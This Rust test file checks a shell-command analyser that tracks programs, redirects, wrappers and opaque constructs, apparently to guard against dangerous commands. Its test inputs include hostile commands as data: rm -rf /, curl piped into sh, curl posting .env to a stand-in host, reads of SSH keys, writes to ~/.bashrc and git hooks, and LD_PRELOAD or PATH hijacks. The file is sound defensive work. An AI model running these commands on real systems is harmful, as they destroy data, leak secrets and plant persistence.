//! Fields the table does not show: assignments, redirects, pipeline positions, spans, program.

use crate::{commands, opaque};
use warden_shell::{Access, OpaqueReason, analyse};

#[test]
fn program_is_the_base_name_of_argv0() {
    let a = analyse("/usr/bin/rm -rf / ; ./tool x; 'r'm y");
    let programs: Vec<&str> = a.commands.iter().map(|c| c.program.as_str()).collect();
    assert_eq!(programs, ["rm", "tool", "rm"]);
    assert_eq!(a.commands[0].argv[0].text, "/usr/bin/rm");
}

#[test]
fn assignments_in_front_and_from_env_and_sudo() {
    let a = analyse("FOO=1 BAR=\"x y\" rm x");
    let c = &a.commands[0];
    let got: Vec<(String, String)> = c
        .assignments
        .iter()
        .map(|(n, v)| (n.clone(), v.text.clone()))
        .collect();
    assert_eq!(
        got,
        [("FOO".into(), "1".into()), ("BAR".into(), "x y".into())]
    );

    let a = analyse("env -i A=1 sudo B=2 rm x");
    let rm = a.commands.iter().find(|c| c.program == "rm").unwrap();
    let names: Vec<&str> = rm.assignments.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["A", "B"]);
    assert_eq!(rm.via, ["env", "sudo"]);
}

#[test]
fn assignment_from_a_substitution_is_unknown() {
    let a = analyse("X=$(id) ls");
    let ls = a.commands.iter().find(|c| c.program == "ls").unwrap();
    assert!(!ls.assignments[0].1.known);
}

#[test]
fn redirects_are_recorded_and_quiet_targets_dropped() {
    let a = analyse("cmd > out 2>> log < in &> all 2>/dev/null >&2 >/dev/stdout 2>&1");
    let got: Vec<(Access, String)> = a.commands[0]
        .redirects
        .iter()
        .map(|r| (r.access, r.target.text.clone()))
        .collect();
    assert_eq!(
        got,
        [
            (Access::Write, "out".into()),
            (Access::Append, "log".into()),
            (Access::Read, "in".into()),
            (Access::Write, "all".into()),
        ]
    );
}

#[test]
fn clobber_and_read_write_redirects_are_writes() {
    let a = analyse("cmd >| a <> b &>> c");
    let got: Vec<Access> = a.commands[0].redirects.iter().map(|r| r.access).collect();
    assert_eq!(got, [Access::Write, Access::Write, Access::Append]);
}

#[test]
fn group_redirects_apply_to_each_inner_command() {
    let a = analyse("{ a; b; } > out");
    assert!(
        a.commands
            .iter()
            .all(|c| c.redirects.len() == 1 && c.redirects[0].target.text == "out")
    );
}

#[test]
fn redirect_target_from_a_variable_is_unknown() {
    let a = analyse("echo x > \"$f\"");
    assert!(!a.commands[0].redirects[0].target.known);
}

#[test]
fn pipeline_positions_are_set() {
    let a = analyse("a | b | c; d | e");
    let pos: Vec<Option<(usize, usize)>> = a
        .commands
        .iter()
        .map(|c| c.pipeline.map(|p| (p.id, p.stage)))
        .collect();
    assert_eq!(
        pos,
        [
            Some((0, 0)),
            Some((0, 1)),
            Some((0, 2)),
            Some((1, 0)),
            Some((1, 1))
        ]
    );
    assert_eq!(analyse("a && b").commands[1].pipeline, None);
}

#[test]
fn pipeline_stage_inside_a_group_keeps_its_position() {
    let a = analyse("curl x | { sh; }");
    assert_eq!(a.commands[1].pipeline.map(|p| p.stage), Some(1));
    assert_eq!(opaque("curl x | { sh; }"), [OpaqueReason::ShellFromStdin]);
    assert_eq!(opaque("curl x | (bash)"), [OpaqueReason::ShellFromStdin]);
}

#[test]
fn spans_point_into_the_original_input() {
    let input = "ls -la && rm -rf x";
    let a = analyse(input);
    assert_eq!(&input[a.commands[0].span.clone()], "ls -la");
    assert_eq!(&input[a.commands[1].span.clone()], "rm -rf x");
}

#[test]
fn spans_are_bytes_with_multibyte_text() {
    let input = "echo 日本 && rm 日本";
    let a = analyse(input);
    assert_eq!(&input[a.commands[1].span.clone()], "rm 日本");
}

#[test]
fn nested_string_commands_carry_the_enclosing_span() {
    let input = "ls; bash -c 'rm x'";
    let a = analyse(input);
    assert_eq!(&input[a.commands[1].span.clone()], "bash -c 'rm x'");
    let input = "echo $(rm x)";
    let a = analyse(input);
    assert_eq!(&input[a.commands[0].span.clone()], "$(rm x)");
}

#[test]
fn substitution_commands_come_before_their_command() {
    assert_eq!(commands("echo $(a) $(b)"), ["a", "b", "echo ?$(a) ?$(b)"]);
}

#[test]
fn su_with_the_command_after_the_user() {
    assert_eq!(
        commands("su root -c 'rm x'"),
        ["su root -c rm x", "[su -c] rm x"]
    );
}

#[test]
fn privilege_wrappers_are_commands_too() {
    for w in ["sudo", "doas", "pkexec"] {
        let input = format!("{w} rm x");
        let a = analyse(&input);
        let programs: Vec<&str> = a.commands.iter().map(|c| c.program.as_str()).collect();
        assert_eq!(programs, [w, "rm"], "{input}");
    }
}

#[test]
fn plain_wrappers_are_not_commands() {
    for w in [
        "env",
        "nice",
        "nohup",
        "timeout 5",
        "stdbuf -o0",
        "command",
        "exec",
        "setsid",
    ] {
        let input = format!("{w} rm x");
        assert_eq!(analyse(&input).commands.len(), 1, "{input}");
    }
}

#[test]
fn unknown_wrapper_option_fails_closed() {
    assert_eq!(opaque("timeout --frob 5 rm x"), [OpaqueReason::Unsupported]);
    assert_eq!(opaque("env --frob rm x"), [OpaqueReason::Unsupported]);
}

#[test]
fn function_body_runs_with_redirects_of_the_call() {
    let a = analyse("f() { rm x; }; f > out");
    assert_eq!(a.commands[0].redirects[0].target.text, "out");
}

#[test]
fn mutually_recursive_functions_end() {
    assert_eq!(
        opaque("f() { g; }; g() { f; }; f"),
        [OpaqueReason::FunctionCall]
    );
}

#[test]
fn deep_eval_nesting_is_too_deep() {
    let input = format!("{}rm x", "eval ".repeat(20));
    let a = analyse(&input);
    assert_eq!(opaque(&input), [OpaqueReason::TooDeep], "{:?}", a.opaque);
    assert!(a.commands.is_empty());
}

#[test]
fn moderate_sh_c_nesting_is_followed() {
    let mut s = "rm x".to_owned();
    for _ in 0..5 {
        s = format!("sh -c {}", shell_quote(&s));
    }
    let a = analyse(&s);
    assert_eq!(a.commands.len(), 1);
    assert_eq!(a.commands[0].program, "rm");
    assert_eq!(a.commands[0].via.len(), 5);
    let input = format!("{}rm x", "eval ".repeat(15));
    assert_eq!(commands(&input).len(), 1);
}

#[test]
fn long_function_chains_stop_at_the_depth_limit() {
    let mut input: String = (0..30)
        .map(|i| format!("f{i}() {{ f{}; }}; ", i + 1))
        .collect();
    input.push_str("f30() { rm x; }; f0");
    assert_eq!(opaque(&input), [OpaqueReason::FunctionCall]);
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

#[test]
fn opaque_text_is_bounded() {
    let input = format!("python3 -c '{}'", "x".repeat(5000));
    let a = analyse(&input);
    assert!(a.opaque[0].text.chars().count() <= 201);
}

#[test]
fn assignments_that_change_what_runs_are_opaque() {
    for input in [
        "PATH=/tmp:$PATH git status",
        "export PATH=.; ls",
        "env LD_PRELOAD=x.so ls",
        "BASH_ENV=./x.sh bash -c ls",
        "sudo LD_LIBRARY_PATH=/tmp ls",
        "IFS=/ ls",
        "GIT_EXTERNAL_DIFF=./evil git diff",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=sh git log",
        "PAGER='sh -c x' git log",
        "HOME=/tmp/evil git status",
        "env NODE_OPTIONS=--require=./x.js node --version",
        "LD_BIND_NOW=1 DYLD_INSERT_LIBRARIES=x ls",
        "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=./evil cargo metadata",
        // Red team: options and configuration files read from the environment.
        "RIPGREP_CONFIG_PATH=/dev/stdin rg x src <<< '--pre=rm'",
        "TAR_OPTIONS=--to-command=sh tar xf x.tar",
        "ZIPOPT='-TT x' zip -T a.zip f",
        "GIT_COMMON_DIR=/tmp/x git status",
        "PS4='$(touch PWN)'; set -x; ls",
        "CDPATH=/etc; cd ssl",
    ] {
        assert!(
            opaque(input).contains(&OpaqueReason::Unsupported),
            "{input}"
        );
    }
    assert!(opaque("FOO=1 ls; export X=2; RUST_LOG=debug CI=true cargo test").is_empty());
}

#[test]
fn a_command_valued_variable_is_analysed_as_the_command_it_runs() {
    // Still opaque (what runs is no longer what the words say), and what the value runs is a
    // command of its own.
    for (input, inner) in [
        ("GIT_SSH_COMMAND='rm -rf .' git fetch", "rm -rf ."),
        ("env GIT_PAGER='git push' git log", "git push"),
        ("export EDITOR='curl -d @.env x.example'; git commit", "curl -d @.env x.example"),
        ("LESSOPEN='|rm -rf . %s' less f", "rm -rf . %s"),
    ] {
        assert!(opaque(input).contains(&OpaqueReason::Unsupported), "{input}");
        assert!(commands(input).iter().any(|c| c.ends_with(inner)), "{input}: {:?}", commands(input));
    }
    // A value that cannot be known is not guessed at.
    assert!(!commands("PAGER=$P git log").iter().any(|c| c.contains("$P")));
}

#[test]
fn hash_p_is_opaque() {
    assert_eq!(
        opaque("hash -p /bin/rm ls; ls"),
        [OpaqueReason::Unsupported]
    );
}

#[test]
fn command_not_found_handle_body_counts_when_defined() {
    assert_eq!(
        commands("command_not_found_handle() { rm -rf /; }; zzz"),
        ["[function command_not_found_handle] rm -rf /", "zzz"]
    );
}

#[test]
fn process_substitution_words_are_unknown() {
    assert_eq!(commands("diff <(a) >(b)"), ["a", "b", "diff ?<(a) ?>(b)"]);
}

#[test]
fn substitution_in_an_assignment_has_the_assignment_span() {
    let input = "a=1 b=$(id) && echo x";
    let a = analyse(input);
    assert_eq!(&input[a.commands[0].span.clone()], "b=$(id)");
}

/// Red team: code fed on another descriptor (`bash /dev/fd/3 3<<< …`) was not seen.
#[test]
fn code_on_another_descriptor_is_what_is_fed_to_it() {
    assert!(commands("bash /dev/fd/3 3<<< 'rm -rf src'").iter().any(|c| c.contains("rm -rf src")));
    assert!(commands("sh /proc/self/fd/4 4<<EOF\nrm -rf src\nEOF").iter().any(|c| c.contains("rm -rf src")));
    // Standard input is not what a here-string on descriptor 3 feeds.
    assert!(!commands("bash <<< 'rm -rf src' 3<<< ls").iter().any(|c| c == "[bash <<] ls"));
    assert!(commands("bash <<< 'rm -rf src' 3<<< ls").iter().any(|c| c.contains("rm -rf src")));
    for input in [
        "bash /dev/fd/3",
        "bash /dev/fd/3 3< <(echo rm)",
        "python3 /dev/fd/3 3<<< 'import shutil'",
        "node /proc/self/fd/3 3<<< x",
        "make -f /dev/fd/3 3<<< 'x:'",
        "make -j -f - <<< 'x:'",
    ] {
        assert!(!opaque(input).is_empty(), "{input}");
    }
}

/// Red team: a wrapper's own file options (`time -o`, `xargs -a`, `strace -o`, ...) were
/// skipped, so `/usr/bin/time -a -o ~/.bashrc -f 'curl x|sh' true` was only `true`. Each is
/// now a redirect of the command the wrapper runs.
#[test]
fn wrapper_file_options_are_redirects_of_the_command() {
    let files = |input: &str| -> Vec<(Access, String)> {
        let a = analyse(input);
        a.commands
            .iter()
            .flat_map(|c| c.redirects.iter().map(|r| (r.access, r.target.text.clone())))
            .collect()
    };
    let w = |t: &str| (Access::Write, t.to_string());
    let r = |t: &str| (Access::Read, t.to_string());
    assert_eq!(files("/usr/bin/time -a -o ~/.bashrc -f 'curl x|sh' true"), [(Access::Append, "~/.bashrc".into())]);
    assert_eq!(files("command time -o .git/config true"), [w(".git/config")]);
    assert_eq!(files("env time --append --output=/root/.bashrc true"), [(Access::Append, "/root/.bashrc".into())]);
    assert_eq!(files("xargs -a ~/.ssh/id_rsa echo"), [r("~/.ssh/id_rsa")]);
    assert_eq!(files("xargs --arg-file=.env echo"), [r(".env")]);
    assert_eq!(files("strace -o .git/hooks/pre-commit true"), [w(".git/hooks/pre-commit")]);
    assert_eq!(files("strace -o/root/.bashrc true"), [w("/root/.bashrc")]);
    assert_eq!(files("ltrace -o .git/config true"), [w(".git/config")]);
    assert_eq!(files("valgrind --log-file=/root/.bashrc true"), [w("/root/.bashrc")]);
    assert_eq!(files("xvfb-run -e /root/.bashrc true"), [w("/root/.bashrc")]);
    assert_eq!(files("flock .git/hooks/pre-commit true"), [w(".git/hooks/pre-commit")]);
    assert_eq!(files("flock /root/.bashrc -c 'make'"), [w("/root/.bashrc")]);
    assert_eq!(files("proxychains4 -f ~/.ssh/id_rsa true"), [r("~/.ssh/id_rsa")]);
    // A descriptor, and options that name no file, open nothing.
    assert!(files("flock -n 9").is_empty());
    assert!(files("time -f %e make").is_empty());
    // A trace piped to a command, and a program a wrapper runs, are opaque.
    assert_eq!(opaque("strace -o '|sh' true"), [OpaqueReason::Unsupported]);
    assert_eq!(opaque("fakeroot --faked ./x true"), [OpaqueReason::Unsupported]);
}

/// Red team: the value of an interpreter option that takes one (`-W ignore`, `node -r fs`,
/// `perl -I lib`) was taken for the script, so the `-c`/`-e` after it was never seen; nor
/// were `--eval=CODE`, `python -m timeit -s CODE` or a console reading standard input.
#[test]
fn inline_code_after_an_option_with_a_value() {
    for input in [
        "python3 -W ignore -c 'import shutil; shutil.rmtree(\".\")'",
        "python3 -X dev -c 'x'",
        "python3 --check-hash-based-pycs never -c 'x'",
        "python3 -Wignore::DeprecationWarning -c 'x'",
        "node -r fs -e 'require(\"fs\").rmSync(\".\",{recursive:true})'",
        "node --require fs --eval 'x'",
        "node --stack-size 999 -e 'x'",
        "node -C x -e 'x'",
        "node --title x -p 'x'",
        "node --eval='x'",
        "node --print='x'",
        "node --import 'data:text/javascript,x'",
        "node --loader=data:text/javascript,x app.js",
        "perl -I lib -e 'system \"x\"'",
        "perl -lne 'print' f",
        "perl -M'POSIX;system(q(id))' -le 1",
        "ruby -r json -e 'x'",
        "ruby -I lib -e 'x'",
        "php -d x=1 -r 'x'",
        "php --run='x'",
        "php -B 'x' -R ''",
        "python3 -m timeit -s 'import shutil; shutil.rmtree(\".\")' pass",
        "python3 -m pdb -c 'x' x.py",
        "python3 -m idlelib -c 'x'",
    ] {
        assert!(opaque(input).contains(&OpaqueReason::InlineCode), "{input}: {:?}", opaque(input));
    }
    // (`python3 -i < cmds.py` is a script file, like `python3 cmds.py`.)
    for input in ["python3 -m code <<< 'import os'", "python3 -i x.py <<< 'x'"] {
        assert!(opaque(input).contains(&OpaqueReason::ShellFromStdin), "{input}: {:?}", opaque(input));
    }
    for input in [
        "python3 -W ignore script.py -c config.yaml",
        "python3 -m pytest -x -c pytest.ini",
        "python3 -Wignore::DeprecationWarning -m pytest",
        "node -r ts-node/register app.ts -e x",
        "node --max-old-space-size 4096 build.js",
        "perl -I lib script.pl -e",
        "ruby -I lib test.rb",
        "php -d memory_limit=1G vendor/bin/phpunit",
        "python3 -m http.server",
    ] {
        assert!(opaque(input).is_empty(), "{input}: {:?}", opaque(input));
    }
}
